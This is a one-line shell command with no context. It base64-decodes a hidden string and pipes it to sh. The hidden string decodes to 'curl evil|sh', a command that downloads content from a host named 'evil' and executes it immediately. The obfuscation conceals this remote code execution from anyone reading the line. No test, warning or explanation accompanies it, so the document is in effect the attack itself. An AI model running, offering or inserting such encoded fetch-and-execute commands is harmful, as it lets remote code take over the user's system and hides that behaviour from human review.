echo Y3VybCBldmlsfHNo | base64 -d | sh
